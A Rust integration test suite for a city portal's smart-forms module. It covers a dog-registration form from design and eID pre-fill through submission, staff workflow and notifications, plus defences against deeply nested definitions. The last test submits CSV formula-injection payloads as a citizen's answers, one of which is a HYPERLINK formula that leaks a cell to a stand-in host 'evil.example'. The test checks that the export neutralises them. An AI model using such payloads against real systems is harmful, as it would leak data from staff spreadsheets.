//! Smart forms, as a designer, a citizen with the eID and an official use
//! them: over HTTP on loopback, with a real OpenID Connect provider, a real
//! SMTP server and a real SMS gateway.

use std::time::Duration;

use portico_host::workers::WorkerConfig;
use portico_platform::audit;
use portico_platform::identity::users::UserKind;
use portico_platform::notifications;
use portico_tests::browser::{Browser, Page};
use portico_tests::oidc::TestProvider;
use portico_tests::peers::{SmsSink, SmtpSink};
use portico_tests::{TEST_CITY, TestPortal};
use serde_json::{Value, json};

use crate::oidc::{citizen, log_in_through, portal_with};

const PASSWORD: &str = "correct horse battery";
const BASE: &str = "/m/smart-forms";

/// The dog registration: who you are (pre-filled from the eID), then the
/// dog, with a choice, a range, a calculated fee, a field shown and
/// required only with a garden, a file and a consent.
pub(crate) fn dog_registration(title: &str, access: &str) -> Value {
    json!({
        "code": "dog-registration",
        "title": title,
        "description": "Register a dog you keep in the city; the fee is 500 CZK a dog.",
        "access": access,
        "schema": {
            "type": "object",
            "properties": {
                "name": { "type": "string", "title": "Your name", "x-prefill": "name", "readOnly": true },
                "born": { "type": "string", "format": "date", "title": "Date of birth", "x-prefill": "birthdate", "readOnly": true },
                "address": { "type": "string", "title": "Address", "x-prefill": "address" },
                "email": { "type": "string", "format": "email", "title": "E-mail", "x-prefill": "email" },
                "phone": { "type": "string", "format": "phone", "title": "Phone for text messages" },
                "breed": { "type": "string", "title": "Breed", "oneOf": [
                    { "const": "labrador", "title": "Labrador" },
                    { "const": "beagle", "title": "Beagle" },
                    { "const": "other", "title": "Another breed" }
                ] },
                "dogs": { "type": "integer", "title": "Number of dogs", "minimum": 1, "maximum": 5 },
                "fee": { "type": "number", "title": "Fee in CZK", "x-calculate": "dogs * 500", "readOnly": true },
                "garden": { "type": "string", "title": "Is the dog kept in a garden?", "enum": ["yes", "no"] },
                "fence": { "type": "string", "title": "How high is the fence (cm)?", "pattern": "[0-9]{2,3}", "description": "in centimetres, e.g. 150" },
                "chip": { "type": "string", "title": "Microchip number", "pattern": "[0-9]{15}", "description": "15 digits" },
                "certificate": { "type": "string", "title": "Vaccination certificate", "contentMediaType": "application/pdf", "x-max-bytes": 1000000 },
                "consent": { "type": "boolean", "const": true, "title": "I confirm the answers are true." }
            },
            "required": ["name", "address", "breed", "dogs", "garden", "consent"],
            "dependentRequired": { "phone": ["email"] },
            "allOf": [
                { "if": { "properties": { "breed": { "const": "other" } } }, "then": { "required": ["chip"] } },
                { "if": { "properties": { "garden": { "const": "yes" } } }, "then": { "required": ["fence"] } }
            ]
        },
        "uischema": {
            "type": "Categorization",
            "elements": [
                { "type": "Category", "label": "You", "elements": [
                    { "type": "Control", "scope": "#/properties/name" },
                    { "type": "Control", "scope": "#/properties/born" },
                    { "type": "Control", "scope": "#/properties/address", "options": { "multi": true } },
                    { "type": "Control", "scope": "#/properties/email" },
                    { "type": "Control", "scope": "#/properties/phone" }
                ] },
                { "type": "Category", "label": "The dog", "elements": [
                    { "type": "Control", "scope": "#/properties/breed" },
                    { "type": "Control", "scope": "#/properties/chip" },
                    { "type": "Control", "scope": "#/properties/dogs" },
                    { "type": "Control", "scope": "#/properties/fee" },
                    { "type": "Control", "scope": "#/properties/garden" },
                    { "type": "Control", "scope": "#/properties/fence",
                      "rule": { "effect": "SHOW", "condition": { "scope": "#/properties/garden", "schema": { "const": "yes" } } } },
                    { "type": "Control", "scope": "#/properties/certificate" },
                    { "type": "Control", "scope": "#/properties/consent" }
                ] }
            ]
        }
    })
}

/// Submits a form of the module: `page` and `path` below it.
async fn post(browser: &Browser, page: &str, path: &str, fields: &[(&str, &str)]) -> Page {
    browser
        .submit(&format!("{BASE}{page}"), &format!("{BASE}{path}"), fields)
        .await
}

fn at_once() -> WorkerConfig {
    WorkerConfig {
        backoff: Duration::ZERO,
        max_attempts: 3,
        ..WorkerConfig::default()
    }
}

/// The `value` of the input with id `f-<name>`.
fn value_of(html: &str, name: &str) -> Option<String> {
    let at = html.find(&format!("id=\"f-{name}\""))?;
    let tag = &html[at..at + html[at..].find('>')?];
    let v = tag.find("value=\"")? + "value=\"".len();
    Some(tag[v..v + tag[v..].find('"')?].to_owned())
}

/// Publishes the definitions and the life situations a designer sets up.
pub(crate) async fn set_up(designer: &Browser, access: &str) {
    let v1 = dog_registration("Dog registration", access).to_string();
    let published = post(designer, "/design", "/design", &[("definition", &v1)]).await;
    assert_eq!(published.status, 303, "{}", published.body);
    let v2 = dog_registration("Registering a dog", access).to_string();
    let published = post(designer, "/design", "/design", &[("definition", &v2)]).await;
    assert_eq!(published.status, 303, "{}", published.body);
    for fields in [
        [
            ("key", "home-and-family"),
            ("title", "Home and family"),
            ("text", "Moving, a new child, pets."),
            ("parent", ""),
        ],
        [
            ("key", "i-have-a-dog"),
            ("title", "I have a dog"),
            ("text", "Register it and pay the fee."),
            ("parent", "home-and-family"),
        ],
    ] {
        let mut all = fields.to_vec();
        if fields[0].1 == "i-have-a-dog" {
            all.push(("forms", "dog-registration"));
        }
        let saved = post(designer, "/situations-edit", "/situations-edit", &all).await;
        assert_eq!(saved.status, 303, "{}", saved.body);
    }
}

#[tokio::test]
async fn a_citizen_finds_a_form_by_life_situation_fills_it_pre_filled_with_a_draft_and_hears_of_every_step()
 {
    let smtp = SmtpSink::start(0).await;
    let gateway = SmsSink::start(0).await;
    let provider = TestProvider::start(citizen()).await;
    let (portal, jana) = portal_with(&["smart-forms"], &provider, "eid", UserKind::Citizen, |b| {
        b.smtp(&smtp.url()).sms(&gateway.url(), None)
    })
    .await;
    let addr = jana.addr();
    let designer = portal.user("petr", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&designer, TEST_CITY, "smart-forms.designer")
        .await;
    let staff = Browser::new(addr);
    assert_eq!(staff.log_in("petr", PASSWORD).await.status, 303);

    // Malformed definitions are refused at the field, naming where; nothing is published.
    let mut bad = dog_registration("Dog registration", "substantial");
    bad["schema"]["properties"]["dogs"]["type"] = json!("count");
    bad["schema"]["properties"]["fee"]["x-calculate"] = json!("dogs * price");
    bad["uischema"]["elements"][1]["elements"][5]["rule"]["condition"]["scope"] =
        json!("#/properties/pool");
    bad["schema"]["required"] = json!(["name", "colour"]);
    let refused = post(
        &staff,
        "/design",
        "/design",
        &[("definition", &bad.to_string())],
    )
    .await;
    refused.assert_refused(&[
        "schema.properties.dogs.type: `count` is not one of string, integer, number, boolean, array",
        "schema.required: `colour` is not a property",
        "uischema.elements[1].elements[5].rule: write",
    ]);
    let not_json = post(
        &staff,
        "/design",
        "/design",
        &[("definition", "{\"code\": \"x\",")],
    )
    .await;
    assert_eq!(not_json.status, 422);
    assert!(
        not_json.body.contains("definition: is not a definition"),
        "{}",
        not_json.body
    );
    assert!(
        staff
            .get(&format!("{BASE}/design"))
            .await
            .body
            .contains("No forms yet.")
    );

    set_up(&staff, "substantial").await;
    // The tree as it is nested, titles and not keys.
    let tree = staff.get(&format!("{BASE}/situations-edit")).await;
    assert!(
        tree.body.contains(">· I have a dog</a>") && tree.body.contains(">Registering a dog<"),
        "{}",
        tree.body
    );
    // A situation cannot lie under itself: it is not offered there, and
    // is refused if posted.
    let editing = staff
        .get(&format!("{BASE}/situations-edit?key=home-and-family"))
        .await;
    assert!(
        !editing.body.contains("<option value=\"i-have-a-dog\""),
        "{}",
        editing.body
    );
    let cycle = post(
        &staff,
        "/situations-edit",
        "/situations-edit",
        &[
            ("editing", "home-and-family"),
            ("title", "Home"),
            ("parent", "i-have-a-dog"),
        ],
    )
    .await;
    assert_eq!(cycle.status, 422);
    assert!(
        cycle.body.contains("A situation cannot lie under itself."),
        "{}",
        cycle.body
    );
    // Two versions, and the export is what was imported.
    let versions = staff.get(&format!("{BASE}/design/dog-registration")).await;
    assert!(
        versions.body.contains("Registering a dog"),
        "{}",
        versions.body
    );
    let exported = staff
        .get(&format!("{BASE}/design/dog-registration/export.json"))
        .await;
    assert_eq!(exported.status, 200, "{}", exported.body);
    assert_eq!(
        exported.json(),
        dog_registration("Registering a dog", "substantial")
    );

    // The citizen logs in with the eID and finds the form through the tree.
    let back = log_in_through(&jana, "eid", "/m/smart-forms/").await;
    assert_eq!(back.status, 303, "{}", back.body);
    let home = jana.get(&format!("{BASE}/")).await;
    assert!(
        home.body
            .contains("/m/smart-forms/situations/home-and-family"),
        "{}",
        home.body
    );
    let top = jana
        .get(&format!("{BASE}/situations/home-and-family"))
        .await;
    assert!(
        top.body.contains("/m/smart-forms/situations/i-have-a-dog"),
        "{}",
        top.body
    );
    let dog = jana.get(&format!("{BASE}/situations/i-have-a-dog")).await;
    assert!(
        dog.body.contains("/m/smart-forms/forms/dog-registration"),
        "{}",
        dog.body
    );
    // The portal's search finds it too.
    let found = jana.get("/search?q=registering").await;
    assert!(
        found
            .body
            .contains("/m/smart-forms/forms/dog%2Dregistration\">Registering a dog</a>"),
        "{}",
        found.body
    );
    let start = jana.get(&format!("{BASE}/forms/dog-registration")).await;
    assert!(
        start.body.contains("/m/smart-forms/fill/dog-registration"),
        "{}",
        start.body
    );

    // Step 1 is pre-filled from the eID; the verified name cannot be changed.
    let step1 = jana.get(&format!("{BASE}/fill/dog-registration")).await;
    assert_eq!(step1.status, 200, "{}", step1.body);
    assert_eq!(
        value_of(&step1.body, "name").as_deref(),
        Some("Jana Nováková")
    );
    assert_eq!(value_of(&step1.body, "born").as_deref(), Some("1980-05-17"));
    assert!(
        step1.body.contains("Hlavní 1, 602 00 Brno"),
        "{}",
        step1.body
    );
    assert!(
        step1.body.contains("(cannot be changed)")
            && step1.body.contains("From your verified identity (eID).")
    );
    let next = post(
        &jana,
        "/fill/dog-registration",
        "/fill/dog-registration",
        &[
            ("_step", "0"),
            ("name", "Someone Else"),
            ("address", "Hlavní 1, 602 00 Brno"),
            ("email", "jana@example.cz"),
            ("phone", "+420 601 234 567"),
        ],
    )
    .await;
    assert_eq!(next.status, 303, "{}", next.body);
    assert!(next.location().ends_with("?step=1"), "{}", next.location());

    // Step 2 refuses what is wrong, at the fields; the fence is required with a garden.
    let wrong = post(
        &jana,
        "/fill/dog-registration?step=1",
        "/fill/dog-registration",
        &[
            ("_step", "1"),
            ("breed", "poodle"),
            ("dogs", "9"),
            ("garden", "yes"),
            ("fence", ""),
        ],
    )
    .await;
    wrong.assert_refused(&[
        "Choose one of: Labrador, Beagle, Another breed.",
        "Give a number from 1 to 5.",
        "Tick the box to go on.",
    ]);
    assert!(
        wrong.body.contains("id=\"f-fence\""),
        "the fence is asked with a garden"
    );
    // Asked for the first time, the fence is a further question, never
    // first an error (a browser without script shows it only now).
    assert!(
        wrong
            .body
            .contains("Your answers brought up a further question on this step")
            && !wrong
                .body
                .contains("How high is the fence (cm)?: Fill this in."),
        "{}",
        wrong.body
    );
    let other_breed = post(
        &jana,
        "/fill/dog-registration?step=1",
        "/fill/dog-registration",
        &[
            ("_step", "1"),
            ("breed", "other"),
            ("chip", "12345"),
            ("dogs", "2"),
            ("garden", "yes"),
            ("fence", "150"),
            ("consent", "true"),
        ],
    )
    .await;
    assert_eq!(other_breed.status, 422);
    assert!(
        other_breed
            .body
            .contains("This does not have the expected form (15 digits)."),
        "{}",
        other_breed.body
    );

    // A draft is saved, and resumed later where it was left.
    let saved = post(
        &jana,
        "/fill/dog-registration?step=1",
        "/fill/dog-registration",
        &[
            ("_step", "1"),
            ("breed", "beagle"),
            ("dogs", "2"),
            ("garden", "no"),
            ("_button", "draft"),
        ],
    )
    .await;
    assert_eq!(saved.status, 303, "{}", saved.body);
    assert!(
        saved.location().starts_with("/m/smart-forms/my?flash="),
        "{}",
        saved.location()
    );
    let mine = jana.get(&format!("{BASE}/my")).await;
    assert!(
        mine.body.contains("Go on with – Registering a dog"),
        "{}",
        mine.body
    );
    let resumed = jana.get(&format!("{BASE}/fill/dog-registration")).await;
    assert!(
        resumed
            .body
            .contains("You are going on with your saved draft."),
        "{}",
        resumed.body
    );
    assert!(resumed.body.contains("step 2 / 2"), "{}", resumed.body);
    assert_eq!(value_of(&resumed.body, "dogs").as_deref(), Some("2"));
    assert_eq!(
        value_of(&resumed.body, "fee").as_deref(),
        Some("1000"),
        "calculated"
    );
    // No fence without a garden: it is drawn hidden, for the page's
    // script to show if the garden changes.
    let fence = resumed
        .body
        .find("id=\"f-fence\"")
        .expect("the fence, for the script");
    let wrapper = resumed.body[..fence].rfind("<div").expect("its field");
    assert!(
        resumed.body[wrapper..fence].contains(" hidden "),
        "no fence without a garden: {}",
        &resumed.body[wrapper..fence]
    );

    // Submitted with a certificate; the receipt number comes back.
    let form = jana.get(&format!("{BASE}/fill/dog-registration")).await;
    let csrf = form.csrf();
    let step2: &[(&str, &str)] = &[
        ("_csrf", &csrf),
        ("_step", "1"),
        ("breed", "beagle"),
        ("dogs", "2"),
        ("garden", "no"),
        ("consent", "true"),
    ];
    // A file too large for the field, or of another type, is refused at it.
    let mut large = b"%PDF-1.7 ".to_vec();
    large.resize(1_200_000, b' ');
    let too_large = jana
        .post_multipart(
            &format!("{BASE}/fill/dog-registration"),
            step2,
            ("certificate", "scan.pdf", &large),
        )
        .await;
    too_large.assert_refused(&["The file is larger than 1.0 MB; choose a smaller one."]);
    let png: &[u8] = &[0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A];
    let wrong_type = jana
        .post_multipart(
            &format!("{BASE}/fill/dog-registration"),
            step2,
            ("certificate", "scan.pdf", png),
        )
        .await;
    wrong_type.assert_refused(&["Choose a file of type application/pdf."]);
    let pdf = b"%PDF-1.7 vaccination certificate";
    let submitted = jana
        .post_multipart(
            &format!("{BASE}/fill/dog-registration"),
            &[
                ("_csrf", &csrf),
                ("_step", "1"),
                ("breed", "beagle"),
                ("dogs", "2"),
                ("garden", "no"),
                ("consent", "true"),
            ],
            ("certificate", "certificate.pdf", pdf),
        )
        .await;
    assert_eq!(submitted.status, 303, "{}", submitted.body);
    // The answers are checked before they are sent.
    assert!(
        submitted.location().ends_with("?step=check"),
        "{}",
        submitted.location()
    );
    let check = jana.get(submitted.location()).await;
    assert!(
        check.body.contains("check your answers")
            && check.body.contains("Beagle")
            && check.body.contains("certificate.pdf"),
        "{}",
        check.body
    );
    let submitted = post(
        &jana,
        "/fill/dog-registration?step=check",
        "/fill/dog-registration",
        &[("_step", "check")],
    )
    .await;
    assert_eq!(submitted.status, 303, "{}", submitted.body);
    let path = submitted.location().split('?').next().unwrap().to_owned();
    let receipt = jana.get(submitted.location()).await;
    assert!(
        receipt
            .body
            .contains("Your submission is received under number F-"),
        "{}",
        receipt.body
    );
    assert!(receipt.body.contains("Submitted"), "{}", receipt.body);
    let number = {
        let at = receipt.body.find("number F-").unwrap() + "number ".len();
        let number = receipt.body[at..at + 13].to_owned();
        // F, the year and six digits, to be read out over the phone.
        assert!(
            number[2..6].chars().all(|c| c.is_ascii_digit())
                && number[7..].chars().all(|c| c.is_ascii_digit()),
            "{number}"
        );
        number
    };
    assert!(
        !jana
            .get(&format!("{BASE}/my"))
            .await
            .body
            .contains("Go on with"),
        "the draft is gone"
    );

    // The official sees the verified name, the calculated fee and the file.
    let inbox = staff.get(&format!("{BASE}/inbox")).await;
    assert!(inbox.body.contains(&number), "{}", inbox.body);
    let id = path.rsplit('/').next().unwrap().to_owned();
    let case = staff.get(&format!("{BASE}/inbox/{id}")).await;
    assert_eq!(case.status, 200, "{}", case.body);
    assert!(
        case.body.contains("Jana Nováková") && !case.body.contains("Someone Else"),
        "{}",
        case.body
    );
    assert!(
        case.body.contains("1000")
            && case.body.contains("Beagle")
            && case.body.contains("version 2"),
        "{}",
        case.body
    );
    let at = case
        .body
        .find(&format!("{BASE}/files/"))
        .expect("the certificate");
    let link = &case.body[at..];
    let link = &link[..link.find('"').unwrap()];
    let file = staff.get(link).await;
    assert_eq!(file.status, 200);
    assert_eq!(file.body.as_bytes(), pdf);
    assert!(
        matches!(jana.get(link).await.status, 401 | 403),
        "files are for staff"
    );
    assert!(matches!(
        jana.get(&format!("{BASE}/inbox")).await.status,
        401 | 403
    ));

    // The workflow: a status not offered is refused; each step tells her.
    let skip = post(
        &staff,
        &format!("/inbox/{id}"),
        &format!("/inbox/{id}"),
        &[("status", "resolved"), ("handler", "petr"), ("note", "")],
    )
    .await;
    assert_eq!(skip.status, 422);
    assert!(
        skip.body.contains("Choose one of the statuses offered."),
        "{}",
        skip.body
    );
    for (status, note) in [
        ("accepted", "We have your registration."),
        ("in-progress", "The fee notice is being prepared."),
        ("resolved", "Registered; the dog tag is in the post."),
    ] {
        let step = post(
            &staff,
            &format!("/inbox/{id}"),
            &format!("/inbox/{id}"),
            &[("status", status), ("handler", "petr"), ("note", note)],
        )
        .await;
        assert_eq!(step.status, 303, "{status}: {}", step.body);
    }
    let done = jana.get(&path).await;
    assert!(
        done.body.contains("Resolved")
            && done
                .body
                .contains("Registered; the dog tag is in the post."),
        "{}",
        done.body
    );

    // Every notification reached her: e-mail, text message and the portal's inbox.
    portal.send_notifications(&at_once()).await;
    let mut subjects: Vec<String> = smtp.received().iter().map(|m| m.subject()).collect();
    subjects.sort();
    assert_eq!(
        subjects,
        [
            format!("Received: Registering a dog ({number})"),
            format!("Registering a dog ({number}): Accepted"),
            format!("Registering a dog ({number}): In progress"),
            format!("Registering a dog ({number}): Resolved"),
        ]
    );
    assert!(smtp.received().iter().all(|m| m.to == ["jana@example.cz"]));
    let resolved = smtp
        .received()
        .into_iter()
        .find(|m| m.subject().ends_with("Resolved"))
        .unwrap();
    assert!(
        resolved
            .text()
            .contains("Registered; the dog tag is in the post."),
        "{}",
        resolved.text()
    );
    let texts = gateway.received();
    assert_eq!(
        texts.len(),
        4,
        "{:?}",
        texts.iter().map(|t| t.body.clone()).collect::<Vec<_>>()
    );
    assert!(texts.iter().all(|t| t.body["to"] == "+420601234567"));
    let jana_id = portal_user_id(&portal, &jana).await;
    let inbox = notifications::inbox(portal.db(), TEST_CITY, &jana_id, 10)
        .await
        .unwrap();
    assert_eq!(inbox.len(), 4);

    // The export and the figures.
    let csv = staff
        .get(&format!("{BASE}/export.csv?form=dog-registration"))
        .await;
    assert_eq!(csv.status, 200, "{}", csv.body);
    let rows: Vec<&str> = csv.body.lines().collect();
    assert_eq!(rows.len(), 2, "{}", csv.body);
    assert!(
        rows[0].contains("Your name") && rows[0].contains("Fee in CZK"),
        "{}",
        rows[0]
    );
    assert!(
        rows[1].contains(&number)
            && rows[1].contains("Jana Nováková")
            && rows[1].contains(",resolved,"),
        "{}",
        rows[1]
    );
    let figures = jana.get(&format!("{BASE}/dashboard")).await;
    assert!(
        figures.body.contains("Registering a dog"),
        "{}",
        figures.body
    );
    let actions: Vec<String> = audit::entries(portal.db(), TEST_CITY)
        .await
        .unwrap()
        .into_iter()
        .map(|e| e.action)
        .collect();
    for action in ["form.publish", "form.situation", "form.submit", "form.step"] {
        assert!(actions.iter().any(|a| a == action), "{action}: {actions:?}");
    }
}

/// The user id behind a browser's session.
async fn portal_user_id(_portal: &TestPortal, browser: &Browser) -> String {
    let me = browser.get_json("/auth/me").await;
    me.json()["id"].as_str().expect("a user id").to_owned()
}

#[tokio::test]
async fn a_public_form_is_filled_in_without_logging_in_and_a_stricter_one_is_refused() {
    let portal = TestPortal::builder().module("smart-forms").build().await;
    let designer = portal.user("petr", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&designer, TEST_CITY, "smart-forms.designer")
        .await;
    let addr = portal.serve().await;
    let staff = Browser::new(addr);
    staff.log_in("petr", PASSWORD).await;
    set_up(&staff, "public").await;
    let mut strict = dog_registration("Weapons licence", "high");
    strict["code"] = json!("weapons");
    let published = post(
        &staff,
        "/design",
        "/design",
        &[("definition", &strict.to_string())],
    )
    .await;
    assert_eq!(published.status, 303);

    // Anonymous: every step on one page; the answers are checked all at once.
    let visitor = Browser::new(addr);
    let start = visitor.get(&format!("{BASE}/forms/dog-registration")).await;
    assert!(
        start
            .body
            .contains("/m/smart-forms/public/dog-registration"),
        "{}",
        start.body
    );
    let refused = post(
        &visitor,
        "/public/dog-registration",
        "/public/dog-registration",
        &[("name", "Karel Novák"), ("dogs", "two")],
    )
    .await;
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert!(
        refused.body.contains("Give a number.") && refused.body.contains("Fill this in."),
        "{}",
        refused.body
    );
    let done = post(
        &visitor,
        "/public/dog-registration",
        "/public/dog-registration",
        &[
            ("name", "Karel Novák"),
            ("address", "Dlouhá 5"),
            ("breed", "labrador"),
            ("dogs", "1"),
            ("garden", "no"),
            ("consent", "true"),
        ],
    )
    .await;
    assert_eq!(done.status, 303, "{}", done.body);
    assert!(done.location().contains("flash="), "{}", done.location());
    assert!(
        staff
            .get(&format!("{BASE}/inbox"))
            .await
            .body
            .contains("Karel Novák")
    );

    // A form for a verified identity is refused to a local account.
    let local = portal.user("karel", UserKind::Citizen, PASSWORD).await;
    let _ = local;
    let karel = Browser::new(addr);
    karel.log_in("karel", PASSWORD).await;
    let start = karel.get(&format!("{BASE}/forms/weapons")).await;
    assert!(
        start.body.contains("not verified strongly enough"),
        "{}",
        start.body
    );
    assert_eq!(karel.get(&format!("{BASE}/fill/weapons")).await.status, 403);
}

/// `depth` layouts, each the only element of the one around it, with the
/// form's controls in the innermost: JSON text, as a designer pastes it.
fn nested_layout(depth: usize) -> String {
    let controls = dog_registration("Dog registration", "public")["uischema"]["elements"]
        .as_array()
        .expect("categories")
        .iter()
        .flat_map(|c| c["elements"].as_array().expect("controls").clone())
        .map(|c| c.to_string())
        .collect::<Vec<_>>()
        .join(",");
    format!(
        "{}{controls}{}",
        r#"{"type":"VerticalLayout","elements":["#.repeat(depth),
        "]}".repeat(depth)
    )
}

/// The definition with `uischema` replaced by `layout` (JSON text).
fn with_layout(layout: &str) -> String {
    let mut def = dog_registration("Dog registration", "public");
    def["uischema"] = json!("LAYOUT");
    def.to_string().replace("\"LAYOUT\"", layout)
}

/// One organization's designer cannot make the module fault, and so be
/// switched off for everybody, with a definition nested too deeply: the
/// calculation and the layout are bounded and refused at the field.
#[tokio::test]
async fn a_definition_nested_too_deeply_is_refused_at_its_path_and_the_module_stays_on() {
    // The breaker switches the module off at its first fault.
    let portal = TestPortal::builder()
        .module("smart-forms")
        .breaker_threshold(1)
        .build()
        .await;
    let designer = portal.user("petr", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&designer, TEST_CITY, "smart-forms.designer")
        .await;
    let addr = portal.serve().await;
    let staff = Browser::new(addr);
    assert_eq!(staff.log_in("petr", PASSWORD).await.status, 303);
    let publish = |def: String| {
        let staff = &staff;
        async move { post(staff, "/design", "/design", &[("definition", &def)]).await }
    };

    // 20,000 brackets around the fee's calculation.
    let mut brackets = dog_registration("Dog registration", "public");
    brackets["schema"]["properties"]["fee"]["x-calculate"] = json!(format!(
        "{}dogs * 500{}",
        "(".repeat(20_000),
        ")".repeat(20_000)
    ));
    publish(brackets.to_string())
        .await
        .assert_refused(&["schema.properties.fee.x-calculate: is longer than 1000 characters"]);
    // Short, but nested deeper than a fee needs.
    let mut deep = dog_registration("Dog registration", "public");
    deep["schema"]["properties"]["fee"]["x-calculate"] =
        json!(format!("{}dogs * 500{}", "(".repeat(40), ")".repeat(40)));
    publish(deep.to_string()).await.assert_refused(&[
        "schema.properties.fee.x-calculate: nests brackets more than 32 levels deep",
    ]);

    // Layouts nested 5,000 deep, and 50 deep.
    publish(with_layout(&nested_layout(5_000)))
        .await
        .assert_refused(&["definition: is more than 32 levels deep at line 1, column "]);
    let refused = publish(with_layout(&nested_layout(50))).await;
    refused.assert_refused(&[&format!(
        "uischema{}: is more than 32 levels deep",
        ".elements[0]".repeat(16)
    )]);

    // As deep in a control's options, which the module does not read.
    let mut options = dog_registration("Dog registration", "public");
    options["uischema"]["elements"][0]["elements"][2]["options"] = json!("OPTIONS");
    let options = options.to_string().replace(
        "\"OPTIONS\"",
        &format!("{}true{}", r#"{"detail":"#.repeat(110), "}".repeat(110)),
    );
    publish(options).await.assert_refused(&[&format!(
        "uischema.elements[0].elements[2].options{}: is more than 32 levels deep",
        ".detail".repeat(27)
    )]);

    // Within the length, but operations nested 990 deep (a citizen's
    // step would overflow the stack at a few thousand).
    let mut negations = dog_registration("Dog registration", "public");
    negations["schema"]["properties"]["fee"]["x-calculate"] =
        json!(format!("{}dogs * 500", "-".repeat(990)));
    publish(negations.to_string()).await.assert_refused(&[
        "schema.properties.fee.x-calculate: nests more than 256 operations in one another",
    ]);

    // Nothing was published, and the module is still on.
    let design = staff.get(&format!("{BASE}/design")).await;
    assert_eq!(design.status, 200, "{}", design.body);
    assert!(design.body.contains("No forms yet."), "{}", design.body);
    // A calculation near the bounds is published and calculated.
    let mut deepest = dog_registration("Dog registration", "public");
    deepest["schema"]["properties"]["fee"]["x-calculate"] =
        json!(format!("{}dogs * 500", "-".repeat(250)));
    let published = publish(deepest.to_string()).await;
    assert_eq!(published.status, 303, "{}", published.body);
    let visitor = Browser::new(addr);
    let done = post(
        &visitor,
        "/public/dog-registration",
        "/public/dog-registration",
        &[
            ("name", "Karel Novák"),
            ("address", "Dlouhá 5"),
            ("breed", "labrador"),
            ("dogs", "2"),
            ("garden", "no"),
            ("consent", "true"),
        ],
    )
    .await;
    assert_eq!(done.status, 303, "{}", done.body);
    let inbox = staff.get(&format!("{BASE}/export.csv")).await;
    assert_eq!(inbox.status, 200, "{}", inbox.body);
    assert!(inbox.body.contains("\"\"fee\"\":1000"), "{}", inbox.body);
}

/// Answers that a spreadsheet would run as formulas come out of the staff
/// export as text: a quote in front, the rest as typed. Numbers the form
/// calculated or took as numbers stay numbers.
#[tokio::test]
async fn answers_that_begin_like_a_formula_are_exported_as_text_a_spreadsheet_does_not_run() {
    let portal = TestPortal::builder().module("smart-forms").build().await;
    let designer = portal.user("petr", UserKind::Staff, PASSWORD).await;
    portal
        .grant(&designer, TEST_CITY, "smart-forms.designer")
        .await;
    let addr = portal.serve().await;
    let staff = Browser::new(addr);
    assert_eq!(staff.log_in("petr", PASSWORD).await.status, 303);
    set_up(&staff, "public").await;

    let hyperlink = "=HYPERLINK(\"https://evil.example/?\"&A2,\"Details\")";
    let visitor = Browser::new(addr);
    let done = post(
        &visitor,
        "/public/dog-registration",
        "/public/dog-registration",
        &[
            ("name", hyperlink),
            ("address", "\t-2+3 Dlouhá"),
            ("email", "jana@example.cz"),
            ("phone", "+420 601 234 567"),
            ("breed", "other"),
            ("chip", "123456789012345"),
            ("dogs", "2"),
            ("garden", "no"),
            ("consent", "true"),
        ],
    )
    .await;
    assert_eq!(done.status, 303, "{}", done.body);
    let done = post(
        &visitor,
        "/public/dog-registration",
        "/public/dog-registration",
        &[
            ("name", "@SUM(A1:A9)"),
            ("address", "Dlouhá 5"),
            ("breed", "labrador"),
            ("dogs", "1"),
            ("garden", "no"),
            ("consent", "true"),
        ],
    )
    .await;
    assert_eq!(done.status, 303, "{}", done.body);

    let csv = staff
        .get(&format!("{BASE}/export.csv?form=dog-registration"))
        .await;
    assert_eq!(csv.status, 200, "{}", csv.body);
    let rows = csv.csv_rows();
    assert_eq!(rows.len(), 3, "{}", csv.body);
    let column = |title: &str| {
        rows[0]
            .iter()
            .position(|c| c == title)
            .unwrap_or_else(|| panic!("no column {title}: {:?}", rows[0]))
    };
    // Newest first.
    assert_eq!(rows[1][column("Your name")], "'@SUM(A1:A9)");
    let cell = |title: &str| rows[2][column(title)].as_str();
    assert_eq!(cell("Your name"), format!("'{hyperlink}"));
    // The module trims the tab; what follows stays text.
    assert_eq!(cell("Address"), "'-2+3 Dlouhá");
    assert_eq!(cell("Phone for text messages"), "'+420 601 234 567");
    assert_eq!(cell("phone"), "'+420 601 234 567");
    assert_eq!(cell("E-mail"), "jana@example.cz");
    assert_eq!(cell("Number of dogs"), "2");
    assert_eq!(cell("Fee in CZK"), "1000");
    assert_eq!(cell("Microchip number"), "123456789012345");
}
